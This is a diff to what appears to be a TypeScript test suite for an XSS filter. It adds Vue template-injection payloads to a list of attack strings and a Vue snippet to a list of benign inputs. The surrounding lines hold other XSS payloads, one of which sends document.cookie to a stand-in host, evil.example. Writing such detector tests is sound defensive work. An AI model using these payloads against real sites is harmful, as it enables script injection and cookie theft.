@@ -199,6 +199,9 @@ const ATTACKS: Array<[string, Paranoia]> = [
   ['self[atob(\'YWxlcnQ=\')](1)', 1],
   ['Set.constructor`alert\x28document.domain\x29```', 1],
   ['<div ng-app><div ng-click=$event.view.alert(1)>click</div></div>', 1],
+  // Vue's expression directives and a template expression reaching the window through the framework's objects
+  ['<p v-show="_c.constructor`alert(1)`()">', 1],
+  ['{{$el.ownerDocument.defaultView.alert(1)}}', 1],
   ['<button @click="fetch(\'//evil.example/\'+document.cookie)">x</button>', 1],
   ['"><img src=x>', 2],
   ['<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />', 1],
@@ -311,6 +314,7 @@ const BENIGN: string[] = [
   '<div class="video"><iframe src="https://player.vimeo.com/video/1" allowfullscreen></iframe></div>',
   '<p class="lead"><b>Hello</b></p><p title="x"><img src="/a.png"></p>',
   '<button ng-click="save()">Save</button> <a @click="open = !open">Menu</a>',
+  '<div v-if="user.isAdmin">Admin</div><li v-for="item in items">{{ item.name }}</li><input v-model="form.email">',
   'What does alert() do in JavaScript?', 'Use eval() carefully', 'Call confirm() before deleting',
   'How do I read document.cookie from an iframe?', 'onclick handler not firing', 'on error resume next',
   'https://www.google.com/search?q=how+to+use+window.location+in+javascript',
